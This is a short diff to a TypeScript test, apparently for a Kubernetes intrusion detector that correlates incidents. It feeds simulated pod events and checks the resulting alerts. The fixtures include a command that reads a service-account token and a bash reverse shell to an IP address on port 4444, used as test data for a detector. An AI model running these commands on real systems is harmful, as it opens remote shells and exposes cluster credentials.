@@ -137,7 +137,9 @@ describe('incidents', () => {
         'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
         T0 + 5_000_000_000n,
       ),
-      inPod('inc-2', 'inc-other', 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1', T0),
+      // Another pod's shell to another address: nothing links them (a shell to the same address
+      // would: that address is then one attacker's, aimed at by few).
+      inPod('inc-2', 'inc-other', 'bash -i >& /dev/tcp/10.8.8.8/4444 0>&1', T0),
     ]);
     const shell = await waitForAlert((a) => a.evidence[0]?.eventId === 'inc-shell', 'shell');
     const token = await waitForAlert((a) => a.evidence[0]?.eventId === 'inc-token', 'token');
